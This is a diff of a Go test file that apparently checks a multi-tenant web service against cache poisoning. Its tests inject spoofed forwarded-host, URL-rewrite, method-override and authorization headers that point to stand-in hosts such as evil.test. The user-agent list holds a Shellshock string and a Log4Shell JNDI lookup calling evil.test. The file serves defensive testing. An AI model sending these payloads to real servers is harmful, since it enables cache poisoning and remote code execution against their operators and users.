@@ -19,17 +19,25 @@ var headerAttacks = []attack{
 }
 
 // evilHosts are an attacker's and, worse, the other tenant's.
-var evilHosts = []string{"evil.test", "evil.test:443", harborline, "prairie.test:1337", "evil.test, prairie.test", `"><evil>`, ""}
+var evilHosts = []string{
+	"evil.test", "evil.test:443", harborline, "prairie.test:1337", "evil.test, prairie.test", `"><evil>`, "",
+}
 
 func forwardedHost(t *testing.T) {
 	variants := each([]string{
-		"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-HTTP-Host-Override", "X-Forwarded-Server", "X-Backend-Host", "X-Proxy-Host",
+		"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-HTTP-Host-Override", "X-Forwarded-Server", "X-Backend-Host",
+		"X-Proxy-Host",
 		"X-Real-Host", "X-Host-Override", "Forwarded-Host", "Base-Url", "X-Forwarded-For-Host", "X-Nf-Host",
 	}, evilHosts)
-	for _, value := range []string{"host=evil.test", "for=1.1.1.1;host=evil.test;proto=evil", `host="harborline.test"`, "host=a;host=evil.test"} {
+	for _, value := range []string{
+		"host=evil.test", "for=1.1.1.1;host=evil.test;proto=evil", `host="harborline.test"`, "host=a;host=evil.test",
+	} {
 		variants = append(variants, adding("Forwarded", value))
 	}
-	variants = append(variants, adding("X-Forwarded-Host", "evil.test", "X-Forwarded-Host", harborline), adding("x-forwarded-host", "evil.test"))
+	variants = append(
+		variants, adding("X-Forwarded-Host", "evil.test", "X-Forwarded-Host", harborline),
+		adding("x-forwarded-host", "evil.test"),
+	)
 	poison(t, itemCall, variants)
 	poison(t, itemPage, variants)
 	h, control := newHouse(t), newHouse(t)
@@ -45,17 +53,21 @@ func forwardedHost(t *testing.T) {
 
 func forwardedScheme(t *testing.T) {
 	variants := each([]string{
-		"X-Forwarded-Proto", "X-Forwarded-Protocol", "X-Forwarded-Scheme", "X-Forwarded-Ssl", "X-Forwarded-Port", "X-Forwarded-Prefix",
-		"X-Forwarded-Path", "X-Forwarded-Uri", "X-Scheme", "X-Url-Scheme", "Front-End-Https", "X-Proto", "X-Script-Name", "CloudFront-Forwarded-Proto",
+		"X-Forwarded-Proto", "X-Forwarded-Protocol", "X-Forwarded-Scheme", "X-Forwarded-Ssl", "X-Forwarded-Port",
+		"X-Forwarded-Prefix",
+		"X-Forwarded-Path", "X-Forwarded-Uri", "X-Scheme", "X-Url-Scheme", "Front-End-Https", "X-Proto", "X-Script-Name",
+		"CloudFront-Forwarded-Proto",
 		"CF-Visitor", "X-ARR-SSL", "Upgrade-Insecure-Requests",
 	}, []string{"nothttps", "http", "https", "1", "0", "off", "/evil", `{"scheme":"evil"}`})
-	variants = append(variants, adding("X-Forwarded-Proto", "http", "X-Forwarded-Host", "evil.test", "X-Forwarded-Port", "1"))
+	variants = append(
+		variants, adding("X-Forwarded-Proto", "http", "X-Forwarded-Host", "evil.test", "X-Forwarded-Port", "1"),
+	)
 	poison(t, itemCall, variants)
 	poison(t, itemPage, variants)
 	h := newHouse(t)
 	for _, v := range variants {
 		got := h.dirty.do(t, v.change(get("/search/")))
-		if got.status != 308 || got.fields.get("Location") != "/search" || got.fields.get("Cache-Control") != "no-store" {
+		if got.status != 308 || got.fields.get("Location") != "/search" || !got.isUnkept() {
 			t.Errorf("%s: %s", v.name, got.fingerprint())
 		}
 		if got := h.clean.do(t, v.change(get("/search"))); got.status != 200 {
@@ -66,16 +78,21 @@ func forwardedScheme(t *testing.T) {
 
 func rewrittenAddress(t *testing.T) {
 	variants := each([]string{
-		"X-Original-URL", "X-Rewrite-URL", "X-HTTP-DestinationURL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Path", "X-Override-URL",
-		"X-Http-Path-Override", "X-Proxy-Url", "Request-Uri", "Uri", "X-Accel-Redirect", "X-Sendfile", "Destination", "Content-Location", "Referer",
-	}, []string{"/evil", "/api/v1/Auction/GetItem?ID=999999", "/api/v1/Service/GetTenants", "/metrics", "https://evil.test/"})
+		"X-Original-URL", "X-Rewrite-URL", "X-HTTP-DestinationURL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Path",
+		"X-Override-URL",
+		"X-Http-Path-Override", "X-Proxy-Url", "Request-Uri", "Uri", "X-Accel-Redirect", "X-Sendfile", "Destination",
+		"Content-Location", "Referer",
+	}, []string{
+		"/evil", "/api/v1/Auction/GetItem?ID=999999", "/api/v1/Service/GetTenants", "/metrics", "https://evil.test/",
+	})
 	poison(t, itemCall, variants)
 	poison(t, itemPage, variants)
 }
 
 func methodOverride(t *testing.T) {
 	variants := each([]string{
-		"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Method", "X-Original-Method", "X-Forwarded-Method", "Method",
+		"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Method", "X-Original-Method", "X-Forwarded-Method",
+		"Method",
 		"X-Http-Method-Name",
 	}, []string{"POST", "DELETE", "HEAD", "OPTIONS", "PURGE", "NONSENSE", "evil"})
 	poison(t, itemCall, variants)
@@ -123,7 +140,7 @@ func cookies(t *testing.T) {
 	h.on(uri, respond(200, jsonType, truth("1", uri), "Set-Cookie: session=evil; HttpOnly", "Set-Cookie: other=evil"))
 	for n := 1; n <= 3; n++ {
 		got := h.clean.do(t, get(uri))
-		if got.status != 200 || got.fields.get("Set-Cookie") != "" || got.fields.get("Cache-Control") != "no-store" || got.fields.get("Netlify-CDN-Cache-Control") != "no-store" {
+		if got.status != 200 || got.fields.get("Set-Cookie") != "" || !got.isUnkept() {
 			t.Errorf("%s", got.fingerprint())
 		}
 		until(t, "the engine is asked each time", func() bool {
@@ -138,25 +155,40 @@ func cookies(t *testing.T) {
 }
 
 func authorization(t *testing.T) {
-	variants := each([]string{"Authorization", "Proxy-Authorization", "X-Api-Key", "X-Auth-Token", "X-Access-Token", "X-Nf-Sign", "X-Fairwarning-Service"},
+	variants := each([]string{
+		"Authorization", "Proxy-Authorization", "X-Api-Key", "X-Auth-Token", "X-Access-Token", "X-Nf-Sign",
+		"X-Fairwarning-Service",
+	},
 		[]string{"Bearer evil", "Basic ZXZpbDpldmls", "evil", ""})
 	variants = append(variants,
-		adding("X-Fairwarning-Tenant", "2"), adding("X-Fairwarning-Tenant", "evil"), adding("X-Fairwarning-Client", "6.6.6.6"),
-		adding("X-Fairwarning-Has-Body", "evil"), adding("Authorization", "Bearer evil", "X-Fairwarning-Tenant", "2", "X-Fairwarning-Service", token+"evil"))
+		adding("X-Fairwarning-Tenant", "2"), adding("X-Fairwarning-Tenant", "evil"),
+		adding("X-Fairwarning-Client", "6.6.6.6"),
+		adding("X-Fairwarning-Has-Body", "evil"), adding(
+			"Authorization", "Bearer evil", "X-Fairwarning-Tenant", "2", "X-Fairwarning-Service", token+"evil",
+		))
 	poison(t, itemCall, variants)
 	poison(t, itemPage, variants)
 }
 
 func breakingHeaders(t *testing.T) {
 	variants := []variant{
-		adding("Max-Forwards", "0"), adding("zTransfer-Encoding", "evil"), adding("Content-Type", "evil/evil"), adding("Content-Encoding", "evil"),
-		adding("If-Match", `"evil"`), adding("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"), adding("If-Modified-Since", "evil"),
-		adding("Cache-Control", "no-cache, no-store, max-age=0, only-if-cached"), adding("Pragma", "no-cache"), adding("TE", "trailers, deflate"),
-		adding("Trailer", "X-Evil"), adding("Keep-Alive", "timeout=evil"), adding("Proxy-Connection", "evil"), adding("Via", "1.0 evil, 1.1 evil"),
-		adding("CDN-Loop", "evil"), adding("Surrogate-Capability", `evil="ESI/1.0"`), adding("Accept-Datetime", "evil"), adding("Prefer", "return=evil"),
-		adding("Early-Data", "1"), adding("DNT", "1"), adding("Save-Data", "on"), adding("Sec-Fetch-Mode", "evil"), adding("X-Debug", "evil"), adding("Debug", "1"),
+		adding("Max-Forwards", "0"), adding("zTransfer-Encoding", "evil"), adding("Content-Type", "evil/evil"),
+		adding("Content-Encoding", "evil"),
+		adding("If-Match", `"evil"`), adding("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
+		adding("If-Modified-Since", "evil"),
+		adding("Cache-Control", "no-cache, no-store, max-age=0, only-if-cached"), adding("Pragma", "no-cache"),
+		adding("TE", "trailers, deflate"),
+		adding("Trailer", "X-Evil"), adding("Keep-Alive", "timeout=evil"), adding("Proxy-Connection", "evil"),
+		adding("Via", "1.0 evil, 1.1 evil"),
+		adding("CDN-Loop", "evil"), adding("Surrogate-Capability", `evil="ESI/1.0"`), adding("Accept-Datetime", "evil"),
+		adding("Prefer", "return=evil"),
+		adding("Early-Data", "1"), adding("DNT", "1"), adding("Save-Data", "on"), adding("Sec-Fetch-Mode", "evil"),
+		adding("X-Debug", "evil"), adding("Debug", "1"),
 	}
-	for _, agent := range []string{"sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "WPScan v3", "() { :;}; echo evil", "${jndi:ldap://evil.test/a}", "", strings.Repeat("evil", 2000)} {
+	for _, agent := range []string{
+		"sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "WPScan v3", "() { :;}; echo evil", "${jndi:ldap://evil.test/a}", "",
+		strings.Repeat("evil", 2000),
+	} {
 		variants = append(variants, adding("User-Agent", agent))
 	}
 	poison(t, itemCall, variants)
